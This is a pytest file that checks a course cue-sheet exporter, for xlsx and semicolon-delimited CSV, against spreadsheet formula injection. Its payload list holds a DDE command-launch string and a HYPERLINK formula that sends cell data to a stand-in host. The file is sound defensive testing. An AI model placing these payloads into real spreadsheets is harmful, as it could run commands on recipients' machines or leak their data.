"""Round 3 injection: format names, waypoint labels and notes reach the cue sheet (xlsx and CSV)
and the dossier workbook as text, never as a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from gpx.gpx_helpers import sample_course
from openpyxl import load_workbook

from app.exports.courses import course_of_track
from app.exports.cuesheet import csv_text, write_cue_csv, write_cue_xlsx
from app.xlsx_text import csv_row
from routes.gpx.model import CourseWaypoint, GpxMeta

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _course(payload: str):  # type: ignore[no-untyped-def]
    track = sample_course(name=payload, n=60)
    mid = track.points[30]
    waypoints = [*track.waypoints,
                 CourseWaypoint(payload, mid[0], mid[1], "ravitaillement", description=payload)]
    track = replace(track, waypoints=waypoints)
    return course_of_track(track, GpxMeta(event=payload, format_name=payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cue_sheet_workbook_holds_user_text_as_text(tmp_path: Path, payload: str) -> None:
    path = write_cue_xlsx(tmp_path / "feuille-de-route.xlsx", [_course(payload)])
    sheet = load_workbook(path).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    names = {c.value for c in sheet["A"][1:]} | {c.value for c in sheet["D"][1:]}
    assert payload.replace("\r", "\n") in names  # xlsx keeps line ends as \n


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cue_sheet_csv_escapes_formula_starts(tmp_path: Path, payload: str) -> None:
    path = write_cue_csv(tmp_path / "feuille-de-route.csv", [_course(payload)])
    text = path.read_bytes().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(f"'{payload}" in row for row in table)
    assert csv_text([_course(payload)]) == text


def test_csv_row_leaves_numbers_and_plain_text() -> None:
    assert csv_row(["Ravito", 12, "12,5", "=1"]) == ["Ravito", 12, "12,5", "'=1"]
